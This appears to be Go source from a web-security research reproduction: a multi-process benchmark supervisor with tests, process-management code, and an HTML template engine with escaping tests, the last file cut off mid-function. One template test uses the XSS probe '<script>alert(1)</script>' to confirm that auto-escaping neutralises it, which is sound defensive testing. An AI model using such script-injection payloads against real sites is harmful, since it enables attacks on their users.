// pollReady polls GET {base}/healthz until it answers 200, counting
// the "starting" (503) responses seen on the way — the readiness
// split is what makes this poll race-free against the mount loop.
func (s *Supervisor) pollReady(ctx context.Context, client *http.Client, base string, server *Proc, deadline time.Time) (startingPolls int, err error) {
	for {
		resp, err := client.Get(base + "/healthz")
		if err == nil {
			code := resp.StatusCode
			resp.Body.Close()
			switch code {
			case http.StatusOK:
				return startingPolls, nil
			case http.StatusServiceUnavailable:
				startingPolls++
			default:
				return startingPolls, fmt.Errorf("cluster: /healthz answered %d", code)
			}
		}
		if !server.Alive() {
			return startingPolls, procError(server, "died during readiness poll", server.ExitErr())
		}
		if time.Now().After(deadline) {
			return startingPolls, fmt.Errorf("cluster: server not ready within %v", s.cfg.ReadyTimeout)
		}
		select {
		case <-ctx.Done():
			return startingPolls, ctx.Err()
		case <-time.After(25 * time.Millisecond):
		}
	}
}

// crossCheck verifies the mounted substrate through the admin plane
// before any load is generated: origin count via /metricsz, policy
// document count via /policyz. It returns the server's build stamp
// (from /healthz) so Run can cross-check the workers against it.
func (s *Supervisor) crossCheck(client *http.Client, base string) (obs.Stamp, error) {
	var serverVer obs.Stamp
	resp, err := client.Get(base + "/healthz")
	if err != nil {
		return serverVer, fmt.Errorf("cluster: /healthz: %w", err)
	}
	var health struct {
		Version obs.Stamp `json:"version"`
	}
	err = json.NewDecoder(resp.Body).Decode(&health)
	resp.Body.Close()
	if err != nil {
		return serverVer, fmt.Errorf("cluster: decoding /healthz: %w", err)
	}
	serverVer = health.Version
	if s.cfg.ExpectOrigins > 0 {
		resp, err := client.Get(base + "/metricsz")
		if err != nil {
			return serverVer, fmt.Errorf("cluster: /metricsz: %w", err)
		}
		var doc struct {
			Origins []json.RawMessage `json:"origins"`
		}
		err = json.NewDecoder(resp.Body).Decode(&doc)
		resp.Body.Close()
		if err != nil {
			return serverVer, fmt.Errorf("cluster: decoding /metricsz: %w", err)
		}
		if len(doc.Origins) != s.cfg.ExpectOrigins {
			return serverVer, fmt.Errorf("cluster: /metricsz reports %d origins, want %d", len(doc.Origins), s.cfg.ExpectOrigins)
		}
	}
	if s.cfg.ExpectPolicies > 0 {
		resp, err := client.Get(base + "/policyz")
		if err != nil {
			return serverVer, fmt.Errorf("cluster: /policyz: %w", err)
		}
		var doc struct {
			Generation uint64                     `json:"generation"`
			Policies   map[string]json.RawMessage `json:"policies"`
		}
		err = json.NewDecoder(resp.Body).Decode(&doc)
		resp.Body.Close()
		if err != nil {
			return serverVer, fmt.Errorf("cluster: decoding /policyz: %w", err)
		}
		if len(doc.Policies) != s.cfg.ExpectPolicies {
			return serverVer, fmt.Errorf("cluster: /policyz serves %d policy documents, want %d", len(doc.Policies), s.cfg.ExpectPolicies)
		}
	}
	return serverVer, nil
}

// Run executes the whole cluster lifecycle: spawn server → wait for
// readiness → cross-check the admin plane → spawn workers → wait →
// merge shards → gracefully stop the server. Any crash (server or
// worker) aborts everything and surfaces the dead process's log tail.
func (s *Supervisor) Run(ctx context.Context) (*Report, error) {
	start := time.Now()
	server, err := StartProc(s.cfg.Server)
	if err != nil {
		return nil, err
	}
	// Whatever happens below, never leave the server running.
	serverStopped := false
	defer func() {
		if !serverStopped {
			server.Kill()
		}
	}()
	s.cfg.Logf("cluster: server %s started (pid %d)", s.cfg.Server.Name, server.PID())

	deadline := time.Now().Add(s.cfg.ReadyTimeout)
	addr, err := s.waitForAddr(ctx, server, deadline)
	if err != nil {
		return nil, err
	}
	client, scheme, err := s.adminClient()
	if err != nil {
		return nil, err
	}
	base := scheme + "://" + addr
	startingPolls, err := s.pollReady(ctx, client, base, server, deadline)
	readyMs := float64(time.Since(start).Nanoseconds()) / 1e6
	if err != nil {
		return nil, err
	}
	s.cfg.Logf("cluster: server ready at %s after %.0f ms (%d starting polls)", base, readyMs, startingPolls)
	serverVer, err := s.crossCheck(client, base)
	if err != nil {
		return nil, err
	}

	// Spawn the loadgen fleet.
	workers := make([]*Proc, 0, s.cfg.NumWorkers)
	killWorkers := func() {
		for _, w := range workers {
			w.Kill()
		}
	}
	type exit struct {
		idx int
		err error
	}
	exits := make(chan exit, s.cfg.NumWorkers)
	for i := 0; i < s.cfg.NumWorkers; i++ {
		w, err := StartProc(s.cfg.Worker(i, addr))
		if err != nil {
			killWorkers()
			return nil, err
		}
		workers = append(workers, w)
		s.cfg.Logf("cluster: %s started (pid %d)", w.Spec.Name, w.PID())
		go func(i int, w *Proc) {
			<-w.Done()
			exits <- exit{i, w.ExitErr()}
		}(i, w)
	}

	// Wait for the fleet; a dead server or a failed worker aborts the
	// run loudly with the culprit's log tail.
	remaining := s.cfg.NumWorkers
	for remaining > 0 {
		select {
		case e := <-exits:
			if e.err != nil {
				killWorkers()
				return nil, procError(workers[e.idx], "failed mid-run", e.err)
			}
			remaining--
			s.cfg.Logf("cluster: %s finished cleanly", workers[e.idx].Spec.Name)
		case <-server.Done():
			killWorkers()
			return nil, procError(server, "died while workers were running", server.ExitErr())
		case <-ctx.Done():
			killWorkers()
			return nil, ctx.Err()
		}
	}

	// Graceful shutdown propagation: SIGTERM → gateway Shutdown →
	// clean exit, inside the grace window.
	serverStopped = true
	if err := server.Stop(s.cfg.ShutdownGrace); err != nil {
		return nil, procError(server, "did not shut down cleanly", err)
	}
	s.cfg.Logf("cluster: server exited cleanly after SIGTERM")

	// Merge the fleet's shards.
	shards := make([]Shard, 0, s.cfg.NumWorkers)
	for i, path := range s.cfg.ShardFiles {
		sh, err := ReadShard(path)
		if err != nil {
			return nil, fmt.Errorf("cluster: worker %d exited cleanly but its shard is unreadable: %w", i, err)
		}
		shards = append(shards, sh)
	}
	rep, err := MergeShards(shards)
	if err != nil {
		return nil, err
	}
	// The fleet's build must match the server's: mixed binaries mean
	// the decision counts and latency numbers describe different code.
	if serverVer != (obs.Stamp{}) && rep.Version != (obs.Stamp{}) && !obs.SameBinary(serverVer, rep.Version) {
		return nil, fmt.Errorf("cluster: server runs %s/%s but workers run %s/%s — version mismatch",
			serverVer.Module, serverVer.Go, rep.Version.Module, rep.Version.Go)
	}
	rep.Addr = addr
	rep.ReadyMs = readyMs
	rep.StartingPolls = startingPolls
	rep.TLS = rep.TLS || s.cfg.CAFile != ""
	if s.cfg.ServerStatsFile != "" {
		data, err := os.ReadFile(s.cfg.ServerStatsFile)
		if err != nil {
			return nil, fmt.Errorf("cluster: server stats file: %w", err)
		}
		var st ServerStats
		if err := json.Unmarshal(data, &st); err != nil {
			return nil, fmt.Errorf("cluster: parsing server stats: %w", err)
		}
		rep.Server = &st
	}
	rep.ElapsedMs = float64(time.Since(start).Nanoseconds()) / 1e6
	return rep, nil
}
