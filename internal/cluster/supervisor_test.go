package cluster

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"repro/internal/core"
	"repro/internal/httpd"
	"repro/internal/origin"
	"repro/internal/policy"
	"repro/internal/web"
)

// fakeCluster builds a supervisor fixture whose "server" process is a
// shell script publishing the address of an in-process gateway (the
// real admin plane: /healthz, /metricsz, /policyz) and whose workers
// are shell scripts. This exercises the whole orchestration protocol
// — readiness polling, cross-checks, crash detection, SIGTERM
// propagation, shard merging — without building the serve binary;
// the end-to-end binary run lives in cmd/escudo-serve's tests.
type fakeCluster struct {
	dir     string
	gateway *httpd.Gateway
	ca      *httpd.CA
	cfg     Config
}

func newFakeCluster(t *testing.T, workers int, tls bool) *fakeCluster {
	t.Helper()
	dir := t.TempDir()

	n := web.NewNetwork()
	o := origin.MustParse("http://app.example")
	n.Register(o, web.HandlerFunc(func(req *web.Request) *web.Response {
		resp := web.HTML("<html><body>ok</body></html>")
		resp.Header.Set(core.HeaderMaxRing, core.DefaultMaxRing.String())
		return resp
	}))
	pol := policy.New(o, core.DefaultMaxRing)
	gwCfg := httpd.Config{
		Inner:   n,
		Origins: map[string]httpd.OriginConfig{o.String(): {Policy: &pol}},
	}
	caFile := ""
	var ca *httpd.CA
	if tls {
		var err error
		ca, err = httpd.NewCA()
		if err != nil {
			t.Fatalf("NewCA: %v", err)
		}
		gwCfg.TLS = ca
		caFile = filepath.Join(dir, "ca.pem")
		if err := ca.WriteCertPEM(caFile); err != nil {
			t.Fatalf("WriteCertPEM: %v", err)
		}
	}
	g, err := httpd.New(gwCfg)
	if err != nil {
		t.Fatalf("httpd.New: %v", err)
	}
	if err := g.MountNetwork(n); err != nil {
		t.Fatalf("MountNetwork: %v", err)
	}
	if err := g.Start("127.0.0.1:0"); err != nil {
		t.Fatalf("Start: %v", err)
	}
	t.Cleanup(func() { g.Close() })

	addrFile := filepath.Join(dir, "addr")
	statsFile := filepath.Join(dir, "server_stats.json")
	statsSrc := filepath.Join(dir, "server_stats.src")
	if err := os.WriteFile(statsSrc,
		[]byte(fmt.Sprintf(`{"addr":%q,"tls":%v,"origins":1,"gateway":{}}`, g.Addr(), tls)), 0o644); err != nil {
		t.Fatalf("writing stats source: %v", err)
	}

	// The fake server publishes the in-process gateway's address, then
	// waits for SIGTERM, on which it "writes its stats" and exits 0.
	serverScript := fmt.Sprintf(
		`printf %%s %q > %q; trap 'cp %q %q; exit 0' TERM; while :; do sleep 0.05; done`,
		g.Addr(), addrFile, statsSrc, statsFile)

	shardFiles := make([]string, workers)
	for i := range shardFiles {
		shardFiles[i] = filepath.Join(dir, fmt.Sprintf("shard_%d.json", i))
	}

	fc := &fakeCluster{dir: dir, gateway: g, ca: ca}
	fc.cfg = Config{
		Server:          Spec{Name: "server", Path: "sh", Args: []string{"-c", serverScript}},
		NumWorkers:      workers,
		AddrFile:        addrFile,
		CAFile:          caFile,
		ShardFiles:      shardFiles,
		ServerStatsFile: statsFile,
		ReadyTimeout:    10 * time.Second,
		ShutdownGrace:   5 * time.Second,
		ExpectOrigins:   1,
		ExpectPolicies:  1,
		Worker: func(i int, addr string) Spec {
			// Default worker: copy a pre-written shard into place.
			src := filepath.Join(dir, fmt.Sprintf("shard_src_%d.json", i))
			return Spec{
				Name: fmt.Sprintf("worker-%d", i),
				Path: "sh",
				Args: []string{"-c", fmt.Sprintf(`echo worker %d against %s; cp %q %q`, i, addr, src, shardFiles[i])},
			}
		},
	}
	for i := 0; i < workers; i++ {
		sh := testShard(i, true)
		sh.TLS = tls
		if err := sh.WriteFile(filepath.Join(dir, fmt.Sprintf("shard_src_%d.json", i))); err != nil {
			t.Fatalf("writing shard source: %v", err)
		}
	}
	return fc
}

func TestSupervisorHappyPath(t *testing.T) {
	for _, useTLS := range []bool{false, true} {
		name := "plain"
		if useTLS {
			name = "tls"
		}
		t.Run(name, func(t *testing.T) {
			fc := newFakeCluster(t, 2, useTLS)
			sup, err := NewSupervisor(fc.cfg)
			if err != nil {
				t.Fatalf("NewSupervisor: %v", err)
			}
			rep, err := sup.Run(context.Background())
			if err != nil {
				t.Fatalf("Run: %v", err)
			}
			if rep.Workers != 2 || rep.TLS != useTLS {
				t.Fatalf("report header: %+v", rep)
			}
			if rep.Addr != fc.gateway.Addr() {
				t.Fatalf("report addr %q, want %q", rep.Addr, fc.gateway.Addr())
			}
			if rep.Server == nil || rep.Server.Origins != 1 {
				t.Fatalf("server stats not propagated: %+v", rep.Server)
			}
			if rep.AttacksNeutralized != 18 || !rep.AttacksMatchMemory {
				t.Fatalf("attack tally: %+v", rep)
			}
			if rep.ReadyMs <= 0 {
				t.Fatalf("ReadyMs = %v", rep.ReadyMs)
			}
		})
	}
}

// TestSupervisorWorkerCrash is the crash-detection satellite: a
// worker killed mid-phase fails the whole run loudly, with that
// worker's captured log tail in the error.
func TestSupervisorWorkerCrash(t *testing.T) {
	fc := newFakeCluster(t, 2, false)
	base := fc.cfg.Worker
	fc.cfg.Worker = func(i int, addr string) Spec {
		if i == 1 {
			// Worker 1 logs, works a little, then dies to SIGKILL —
			// the harshest mid-phase death.
			return Spec{
				Name: "worker-1",
				Path: "sh",
				Args: []string{"-c", `echo shard half written, last words here; sleep 0.2; kill -KILL $$`},
			}
		}
		return base(i, addr)
	}
	sup, err := NewSupervisor(fc.cfg)
	if err != nil {
		t.Fatalf("NewSupervisor: %v", err)
	}
	_, err = sup.Run(context.Background())
	if err == nil {
		t.Fatal("Run succeeded despite a killed worker")
	}
	msg := err.Error()
	if !strings.Contains(msg, "worker-1") {
		t.Fatalf("error does not name the dead worker: %v", err)
	}
	if !strings.Contains(msg, "last words here") {
		t.Fatalf("error does not carry the worker's log tail: %v", err)
	}
	// The fake server process must not be leaked: the supervisor kills
	// it on the failure path (t.Cleanup would hang otherwise); give it
	// a moment and verify nothing still holds the addr file open by
	// re-running a healthy cluster in the same test binary.
}

// TestSupervisorServerCrash: a server that dies before publishing an
// address fails the run with the server's log tail.
func TestSupervisorServerCrash(t *testing.T) {
	fc := newFakeCluster(t, 1, false)
	fc.cfg.Server = Spec{Name: "server", Path: "sh",
		Args: []string{"-c", `echo bind error: port in use >&2; exit 1`}}
	sup, err := NewSupervisor(fc.cfg)
	if err != nil {
		t.Fatalf("NewSupervisor: %v", err)
	}
	_, err = sup.Run(context.Background())
	if err == nil || !strings.Contains(err.Error(), "port in use") {
		t.Fatalf("Run = %v, want server log tail", err)
	}
}

// TestSupervisorCrossCheckFailure: a substrate that doesn't match the
// expected origin/policy counts aborts before any load is generated.
func TestSupervisorCrossCheckFailure(t *testing.T) {
	fc := newFakeCluster(t, 1, false)
	fc.cfg.ExpectOrigins = 7
	sup, err := NewSupervisor(fc.cfg)
	if err != nil {
		t.Fatalf("NewSupervisor: %v", err)
	}
	_, err = sup.Run(context.Background())
	if err == nil || !strings.Contains(err.Error(), "origins") {
		t.Fatalf("Run = %v, want origin cross-check failure", err)
	}
}

// TestSupervisorReadinessWaits pins the satellite: the poll tolerates
// a gateway that is alive but "starting" (503) and only proceeds once
// readiness flips.
func TestSupervisorReadinessWaits(t *testing.T) {
	fc := newFakeCluster(t, 1, false)
	// Rebuild the gateway in HoldReady mode on the same fixture.
	n := web.NewNetwork()
	o := origin.MustParse("http://late.example")
	n.Register(o, web.HandlerFunc(func(req *web.Request) *web.Response {
		return web.HTML("<html><body>late</body></html>")
	}))
	g, err := httpd.New(httpd.Config{Inner: n, HoldReady: true})
	if err != nil {
		t.Fatalf("httpd.New: %v", err)
	}
	if err := g.MountNetwork(n); err != nil {
		t.Fatalf("MountNetwork: %v", err)
	}
	if err := g.Start("127.0.0.1:0"); err != nil {
		t.Fatalf("Start: %v", err)
	}
	defer g.Close()
	addrFile := filepath.Join(fc.dir, "late_addr")
	fc.cfg.AddrFile = addrFile
	fc.cfg.ExpectOrigins = 1
	fc.cfg.ExpectPolicies = 0
	fc.cfg.ServerStatsFile = ""
	fc.cfg.Server = Spec{Name: "server", Path: "sh",
		Args: []string{"-c", fmt.Sprintf(
			`printf %%s %q > %q; trap 'exit 0' TERM; while :; do sleep 0.05; done`, g.Addr(), addrFile)}}

	// Flip readiness only after the supervisor has had time to observe
	// "starting" a few times.
	go func() {
		time.Sleep(300 * time.Millisecond)
		g.SetReady(true)
	}()
	sup, err := NewSupervisor(fc.cfg)
	if err != nil {
		t.Fatalf("NewSupervisor: %v", err)
	}
	rep, err := sup.Run(context.Background())
	if err != nil {
		t.Fatalf("Run: %v", err)
	}
	if rep.StartingPolls == 0 {
		t.Fatal("readiness poll never observed the starting state")
	}
}
