// Package cluster turns escudo-serve into a real multi-process
// deployment: a Supervisor fork/execs one gateway process in
// server-only mode plus N loadgen worker processes, coordinates them
// over the gateway's admin endpoints (/healthz readiness, /metricsz
// and /policyz cross-checks), captures per-process logs, propagates
// graceful shutdown (SIGTERM → gateway Shutdown), detects crashes,
// and merges the workers' BENCH shards into one cluster report.
//
// The protection model is unmoved by any of this: every reference
// monitor runs inside the worker processes' browsers, and the server
// process is a dumb policy-serving transport. The cluster is the
// first benchmark where client and server genuinely cross a process
// boundary — and the transport-independence invariant (identical
// verdicts over web.Network, plain HTTP, and TLS) is what makes its
// numbers comparable to the in-memory ones.
package cluster

import (
	"context"
	"fmt"
	"os"
	"os/exec"
	"sync"
	"syscall"
	"time"
)

// Spec names one process to run.
type Spec struct {
	// Name labels the process in logs and errors ("server",
	// "worker-0").
	Name string
	// Path is the executable; Args are its arguments (argv[1:]).
	Path string
	Args []string
	// Env, when non-nil, replaces the inherited environment.
	Env []string
	// Dir is the working directory ("" inherits).
	Dir string
}

// tailBuffer keeps the last Cap bytes written to it — enough of a
// crashed process's output to fail loudly with, without buffering a
// whole load run's logging.
type tailBuffer struct {
	mu        sync.Mutex
	buf       []byte
	cap       int
	truncated bool
}

func newTailBuffer(capBytes int) *tailBuffer {
	return &tailBuffer{cap: capBytes}
}

func (t *tailBuffer) Write(p []byte) (int, error) {
	t.mu.Lock()
	defer t.mu.Unlock()
	t.buf = append(t.buf, p...)
	if len(t.buf) > t.cap {
		t.buf = t.buf[len(t.buf)-t.cap:]
		t.truncated = true
	}
	return len(p), nil
}

func (t *tailBuffer) String() string {
	t.mu.Lock()
	defer t.mu.Unlock()
	if t.truncated {
		return "…" + string(t.buf)
	}
	return string(t.buf)
}

// Proc is one supervised child process with its combined
// stdout+stderr captured into a bounded tail.
type Proc struct {
	Spec Spec

	cmd  *exec.Cmd
	log  *tailBuffer
	done chan struct{}

	mu      sync.Mutex
	waitErr error
}

// logTailBytes bounds each process's captured log tail.
const logTailBytes = 64 << 10

// StartProc launches the process with stdout and stderr interleaved
// into the captured tail.
func StartProc(s Spec) (*Proc, error) {
	p := &Proc{
		Spec: s,
		log:  newTailBuffer(logTailBytes),
		done: make(chan struct{}),
	}
	p.cmd = exec.Command(s.Path, s.Args...)
	p.cmd.Stdout = p.log
	p.cmd.Stderr = p.log
	p.cmd.Env = s.Env
	p.cmd.Dir = s.Dir
	if err := p.cmd.Start(); err != nil {
		return nil, fmt.Errorf("cluster: starting %s: %w", s.Name, err)
	}
	go func() {
		err := p.cmd.Wait()
		p.mu.Lock()
		p.waitErr = err
		p.mu.Unlock()
		close(p.done)
	}()
	return p, nil
}

// PID returns the child's process id.
func (p *Proc) PID() int { return p.cmd.Process.Pid }

// Done closes when the process has exited.
func (p *Proc) Done() <-chan struct{} { return p.done }

// Alive reports whether the process is still running.
func (p *Proc) Alive() bool {
	select {
	case <-p.done:
		return false
	default:
		return true
	}
}

// ExitErr returns the Wait error (nil for a clean exit). Only valid
// after Done has closed.
func (p *Proc) ExitErr() error {
	p.mu.Lock()
	defer p.mu.Unlock()
	return p.waitErr
}

// Signal delivers sig to the process.
func (p *Proc) Signal(sig os.Signal) error {
	return p.cmd.Process.Signal(sig)
}

// LogTail returns the captured tail of the process's output.
func (p *Proc) LogTail() string { return p.log.String() }

// Wait blocks until exit or ctx cancellation.
func (p *Proc) Wait(ctx context.Context) error {
	select {
	case <-p.done:
		return p.ExitErr()
	case <-ctx.Done():
		return ctx.Err()
	}
}

// Stop asks the process to exit with SIGTERM and escalates to SIGKILL
// after grace. It returns the process's exit error (nil for a clean
// exit before the escalation).
func (p *Proc) Stop(grace time.Duration) error {
	if p.Alive() {
		if err := p.Signal(syscall.SIGTERM); err != nil && p.Alive() {
			return fmt.Errorf("cluster: SIGTERM %s: %w", p.Spec.Name, err)
		}
	}
	select {
	case <-p.done:
		return p.ExitErr()
	case <-time.After(grace):
		p.cmd.Process.Kill() //nolint:errcheck // best-effort escalation
		<-p.done
		return fmt.Errorf("cluster: %s did not exit within %v of SIGTERM (killed)", p.Spec.Name, grace)
	}
}

// Kill forcibly terminates the process and waits for it.
func (p *Proc) Kill() {
	if p.Alive() {
		p.cmd.Process.Kill() //nolint:errcheck // best-effort
	}
	<-p.done
}
