package template

import (
	"errors"
	"strings"
	"testing"
	"testing/quick"

	"repro/internal/core"
	"repro/internal/html"
	"repro/internal/nonce"
)

func TestRenderPlaceholders(t *testing.T) {
	tpl := MustParse(`<h1>{{title}}</h1><p>{{body}}</p>`)
	out := tpl.Render(Data{"title": "Hello", "body": "World"})
	if out != `<h1>Hello</h1><p>World</p>` {
		t.Errorf("out = %q", out)
	}
}

func TestAutoEscaping(t *testing.T) {
	// The engine's auto-escaping is the §1 "first line of defense";
	// the unhardened app modes bypass it via {{{raw}}}.
	tpl := MustParse(`<p>{{user}}</p>`)
	out := tpl.Render(Data{"user": `<script>alert(1)</script>`})
	if strings.Contains(out, "<script>") {
		t.Errorf("escaping failed: %q", out)
	}
	doc := html.Parse(out, html.LegacyOptions())
	if got := html.InnerText(doc); got != `<script>alert(1)</script>` {
		t.Errorf("round trip text = %q", got)
	}
}

func TestRawInsertion(t *testing.T) {
	tpl := MustParse(`<div>{{{markup}}}</div>`)
	out := tpl.Render(Data{"markup": `<b>bold</b>`})
	if out != `<div><b>bold</b></div>` {
		t.Errorf("out = %q", out)
	}
}

func TestEachLoop(t *testing.T) {
	tpl := MustParse(`<ul>{{#each items}}<li>{{name}}</li>{{/each}}</ul>`)
	out := tpl.Render(Data{"items": []Data{{"name": "a"}, {"name": "b"}}})
	if out != `<ul><li>a</li><li>b</li></ul>` {
		t.Errorf("out = %q", out)
	}
	// String lists bind {{.}}.
	tpl = MustParse(`{{#each xs}}[{{.}}]{{/each}}`)
	out = tpl.Render(Data{"xs": []string{"1", "2"}})
	if out != `[1][2]` {
		t.Errorf("out = %q", out)
	}
}

func TestEachScopeShadowing(t *testing.T) {
	tpl := MustParse(`{{#each items}}{{title}}:{{name}};{{/each}}`)
	out := tpl.Render(Data{"title": "T", "items": []Data{{"name": "a"}, {"name": "b", "title": "X"}}})
	if out != `T:a;X:b;` {
		t.Errorf("out = %q", out)
	}
}

func TestIf(t *testing.T) {
	tpl := MustParse(`{{#if admin}}<a>admin</a>{{/if}}ok`)
	if out := tpl.Render(Data{"admin": true}); out != `<a>admin</a>ok` {
		t.Errorf("true: %q", out)
	}
	if out := tpl.Render(Data{"admin": false}); out != `ok` {
		t.Errorf("false: %q", out)
	}
	if out := tpl.Render(Data{}); out != `ok` {
		t.Errorf("missing: %q", out)
	}
}

func TestNestedSections(t *testing.T) {
	tpl := MustParse(`{{#each topics}}<h2>{{subject}}</h2>{{#each replies}}<p>{{text}}</p>{{/each}}{{/each}}`)
	out := tpl.Render(Data{"topics": []Data{
		{"subject": "T1", "replies": []Data{{"text": "r1"}, {"text": "r2"}}},
		{"subject": "T2", "replies": []Data{}},
	}})
	if out != `<h2>T1</h2><p>r1</p><p>r2</p><h2>T2</h2>` {
		t.Errorf("out = %q", out)
	}
}

func TestDottedLookup(t *testing.T) {
	tpl := MustParse(`{{user.name}}`)
	out := tpl.Render(Data{"user": Data{"name": "alice"}})
	if out != "alice" {
		t.Errorf("out = %q", out)
	}
}

func TestMissingVarRendersEmpty(t *testing.T) {
	tpl := MustParse(`[{{nope}}]`)
	if out := tpl.Render(Data{}); out != "[]" {
		t.Errorf("out = %q", out)
	}
}

func TestParseErrors(t *testing.T) {
	bad := []string{
		`{{#each items}}no closer`,
		`{{/each}}`,
		`{{#if x}}{{/each}}`,
		`{{unterminated`,
		`{{{unterminated}}`,
	}
	for _, src := range bad {
		if _, err := Parse(src); !errors.Is(err, ErrBadTemplate) {
			t.Errorf("Parse(%q) err = %v, want ErrBadTemplate", src, err)
		}
	}
}

func TestMustParsePanics(t *testing.T) {
	defer func() {
		if recover() == nil {
			t.Error("MustParse must panic on bad template")
		}
	}()
	MustParse(`{{#if x}}`)
}

func TestACBuilderWrap(t *testing.T) {
	b := NewACBuilder(nonce.NewSeqSource(100))
	out := b.Wrap(3, core.ACL{Read: 2, Write: 2, Use: 2}, "id=c1", "user text")
	want := `<div ring=3 r=2 w=2 x=2 nonce=100 id=c1>user text</div nonce=100>`
	if out != want {
		t.Errorf("out = %q, want %q", out, want)
	}
}

func TestACBuilderPairSharesNonce(t *testing.T) {
	b := NewACBuilder(nonce.NewSeqSource(7))
	open, closeTag := b.Pair(1, core.UniformACL(1), "")
	if !strings.Contains(open, "nonce=7") || !strings.Contains(closeTag, "nonce=7") {
		t.Errorf("pair = %q %q", open, closeTag)
	}
	open2, _ := b.Pair(1, core.UniformACL(1), "")
	if strings.Contains(open2, "nonce=7") {
		t.Error("nonces must be fresh per pair")
	}
}

func TestACBuilderDefaultCrypto(t *testing.T) {
	b := NewACBuilder(nil)
	open, _ := b.Pair(2, core.UniformACL(2), "")
	if !strings.Contains(open, "nonce=") {
		t.Errorf("open = %q", open)
	}
}

func TestACBuilderOutputParses(t *testing.T) {
	// The builder's output, fed through the ESCUDO parser, labels
	// content exactly as requested and survives the nonce check.
	b := NewACBuilder(nonce.NewSeqSource(1))
	page := b.Wrap(1, core.UniformACL(1), "id=app", "app") +
		b.Wrap(3, core.ACL{Read: 2, Write: 2, Use: 2}, "id=user", "user")
	doc := html.Parse(page, html.Options{Escudo: true, MaxRing: 3})
	var app, user *html.Node
	html.Walk(doc, func(n *html.Node) bool {
		if id, _ := n.Attr("id"); id == "app" {
			app = n
		} else if id, _ := n.Attr("id"); id == "user" {
			user = n
		}
		return true
	})
	if app == nil || app.Ring != 1 {
		t.Errorf("app = %+v", app)
	}
	if user == nil || user.Ring != 3 || user.ACL != (core.ACL{Read: 2, Write: 2, Use: 2}) {
		t.Errorf("user = %+v", user)
	}
}

// Property: for any user-supplied string, the escaped placeholder
// output parses back to text equal to the input — no markup injection
// through the escaping path.
func TestEscapingPreventsInjection(t *testing.T) {
	tpl := MustParse(`<div id=host>{{user}}</div>`)
	f := func(s string) bool {
		// The HTML parser normalizes CR and control chars; restrict
		// to the printable set for the equality check while still
		// covering every markup-significant character.
		clean := strings.Map(func(r rune) rune {
			if r < 32 || r == 127 {
				return -1
			}
			return r
		}, s)
		out := tpl.Render(Data{"user": clean})
		doc := html.Parse(out, html.LegacyOptions())
		// Exactly one element (the host div) may exist.
		elems := 0
		html.Walk(doc, func(n *html.Node) bool {
			if n.Type == html.ElementNode {
				elems++
			}
			return true
		})
		return elems == 1 && html.InnerText(doc) == clean
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 500}); err != nil {
		t.Error(err)
	}
}
