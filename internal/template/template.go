// Package template implements a small HTML template engine in the
// spirit of the Smarty/StringTemplate engines the paper's case-study
// applications use (§6.2): placeholders with automatic HTML escaping,
// raw insertions for trusted markup, loops, conditionals — and,
// crucially, AC-tag emission with fresh markup-randomization nonces,
// so the ESCUDO configuration lives in the template, "isolating the
// configuration from dynamic data".
package template

import (
	"errors"
	"fmt"
	"strings"

	"repro/internal/core"
	"repro/internal/html"
	"repro/internal/nonce"
)

// node kinds of the compiled template.
type nodeKind int

const (
	textNode nodeKind = iota + 1
	varNode           // {{name}} escaped
	rawNode           // {{{name}}} unescaped
	eachNode          // {{#each name}}...{{/each}}
	ifNode            // {{#if name}}...{{/if}}
)

// tplNode is one compiled template node.
type tplNode struct {
	kind nodeKind
	text string
	name string
	body []*tplNode
}

// Template is a compiled template.
type Template struct {
	nodes []*tplNode
}

// ErrBadTemplate reports a malformed template source.
var ErrBadTemplate = errors.New("template: malformed template")

// Parse compiles template source.
func Parse(src string) (*Template, error) {
	p := &tplParser{src: src}
	nodes, err := p.parseUntil("")
	if err != nil {
		return nil, err
	}
	return &Template{nodes: nodes}, nil
}

// MustParse is Parse for statically known templates; it panics on
// error.
func MustParse(src string) *Template {
	t, err := Parse(src)
	if err != nil {
		panic(err)
	}
	return t
}

type tplParser struct {
	src string
	pos int
}

// parseUntil parses nodes until the named closer ({{/name}}) or EOF
// when closer is empty.
func (p *tplParser) parseUntil(closer string) ([]*tplNode, error) {
	var nodes []*tplNode
	for p.pos < len(p.src) {
		i := strings.Index(p.src[p.pos:], "{{")
		if i < 0 {
			nodes = append(nodes, &tplNode{kind: textNode, text: p.src[p.pos:]})
			p.pos = len(p.src)
			break
		}
		if i > 0 {
			nodes = append(nodes, &tplNode{kind: textNode, text: p.src[p.pos : p.pos+i]})
			p.pos += i
		}
		tag, raw, err := p.readTag()
		if err != nil {
			return nil, err
		}
		switch {
		case strings.HasPrefix(tag, "#each "):
			name := strings.TrimSpace(strings.TrimPrefix(tag, "#each "))
			body, err := p.parseUntil("each")
			if err != nil {
				return nil, err
			}
			nodes = append(nodes, &tplNode{kind: eachNode, name: name, body: body})
		case strings.HasPrefix(tag, "#if "):
			name := strings.TrimSpace(strings.TrimPrefix(tag, "#if "))
			body, err := p.parseUntil("if")
			if err != nil {
				return nil, err
			}
			nodes = append(nodes, &tplNode{kind: ifNode, name: name, body: body})
		case strings.HasPrefix(tag, "/"):
			got := strings.TrimSpace(strings.TrimPrefix(tag, "/"))
			if closer == "" || got != closer {
				return nil, fmt.Errorf("%w: unexpected {{/%s}}", ErrBadTemplate, got)
			}
			return nodes, nil
		default:
			kind := varNode
			if raw {
				kind = rawNode
			}
			nodes = append(nodes, &tplNode{kind: kind, name: strings.TrimSpace(tag)})
		}
	}
	if closer != "" {
		return nil, fmt.Errorf("%w: missing {{/%s}}", ErrBadTemplate, closer)
	}
	return nodes, nil
}

// readTag reads "{{...}}" or "{{{...}}}" at the current position.
func (p *tplParser) readTag() (tag string, raw bool, err error) {
	if strings.HasPrefix(p.src[p.pos:], "{{{") {
		end := strings.Index(p.src[p.pos:], "}}}")
		if end < 0 {
			return "", false, fmt.Errorf("%w: unterminated {{{", ErrBadTemplate)
		}
		tag = p.src[p.pos+3 : p.pos+end]
		p.pos += end + 3
		return tag, true, nil
	}
	end := strings.Index(p.src[p.pos:], "}}")
	if end < 0 {
		return "", false, fmt.Errorf("%w: unterminated {{", ErrBadTemplate)
	}
	tag = p.src[p.pos+2 : p.pos+end]
	p.pos += end + 2
	return tag, false, nil
}

// Data is the render context: string/bool values, nested Data, and
// []Data lists.
type Data map[string]any

// Render executes the template against data.
func (t *Template) Render(data Data) string {
	var b strings.Builder
	renderNodes(&b, t.nodes, data)
	return b.String()
}

func renderNodes(b *strings.Builder, nodes []*tplNode, data Data) {
	for _, n := range nodes {
